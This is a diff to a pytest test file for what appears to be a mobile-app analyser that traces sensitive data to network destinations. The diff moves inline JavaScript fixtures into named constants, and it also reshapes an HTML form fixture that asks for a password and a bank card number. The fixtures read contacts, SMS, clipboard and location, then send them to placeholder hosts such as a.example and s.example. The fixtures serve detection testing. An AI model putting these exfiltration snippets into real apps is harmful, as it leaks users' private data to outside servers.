@@ -15,23 +15,30 @@ def flows(text):
     return [(f.data, f.sink, f.endpoint) for f in script(text).flows]
 
 
+CORDOVA = """navigator.contacts.find(['*'], function(c) {
+    var x = new XMLHttpRequest(); x.open('POST', 'http://a.example/c'); x.send(JSON.stringify(c)); })"""
+NAMED = """function ok(p) { var s = new WebSocket('wss://w.example/x'); s.send(p.coords.latitude) }
+    navigator.geolocation.watchPosition(ok)"""
+UNI = """uni.getLocation({success: function(r) {
+    uni.request({url: 'http://u.example/l', data: {x: r.longitude}}) }})"""
+ASSIGNED = """const t = await Clipboard.getString();
+    fetch(URL, {body: t});
+    const URL = 'https://c.example/p'"""
+DERIVED = "SMS.listSMS({}, function(list) { var b = JSON.stringify(list); $.post('http://s.example/s', b) })"
+ARROW = "navigator.geolocation.getCurrentPosition(p => fetch('https://g.example/' + p.coords.latitude))"
+
+
 @pytest.mark.parametrize(
     ("text", "flow"),
     [
-        ("navigator.contacts.find(['*'],function(c){var x=new XMLHttpRequest();x.open('POST','http://a.example/c');"
-         "x.send(JSON.stringify(c));})", (D.CONTACTS, Sink.HTTP, "a.example")),
-        ("navigator.geolocation.getCurrentPosition(p=>fetch('https://g.example/'+p.coords.latitude))",
-         (D.LOCATION, Sink.HTTP, "g.example")),
-        ("uni.getLocation({success:function(r){uni.request({url:'http://u.example/l',data:{x:r.longitude}})}})",
-         (D.LOCATION, Sink.HTTP, "u.example")),
-        ("const t=await Clipboard.getString();\nfetch(URL,{body:t});\nconst URL='https://c.example/p'",
-         (D.CLIPBOARD, Sink.HTTP, "c.example")),
-        ("function ok(p){var s=new WebSocket('wss://w.example/x');s.send(p.coords.latitude)}"
-         "navigator.geolocation.watchPosition(ok)", (D.LOCATION, Sink.SOCKET, "w.example")),
-        ("SMS.listSMS({},function(list){var b=JSON.stringify(list);$.post('http://s.example/s',b)})",
-         (D.SMS, Sink.HTTP, "s.example")),
+        (CORDOVA, (D.CONTACTS, Sink.HTTP, "a.example")),
+        (ARROW, (D.LOCATION, Sink.HTTP, "g.example")),
+        (UNI, (D.LOCATION, Sink.HTTP, "u.example")),
+        (ASSIGNED, (D.CLIPBOARD, Sink.HTTP, "c.example")),
+        (NAMED, (D.LOCATION, Sink.SOCKET, "w.example")),
+        (DERIVED, (D.SMS, Sink.HTTP, "s.example")),
     ],
-)  # fmt: skip
+)
 def test_what_is_taken_is_sent(text, flow):
     assert flows(text) == [flow]
 
@@ -66,7 +73,8 @@ def test_hidden_addresses(text, hidden):
 
 
 def test_forms():
-    page = "<html><form><input name=user><input type=password><input name=cardNo placeholder='银行卡号'></form></html>"
+    inputs = "<input name=user><input type=password><input name=cardNo placeholder='银行卡号'>"
+    page = f"<html><form>{inputs}</form></html>"
     found = web.parse(page.encode(), "assets/www/pay.html")
     assert found.kind == "html"
     assert {category for category, _ in found.fields} == {D.ACCOUNT_PASSWORD, D.BANK_ACCOUNT}
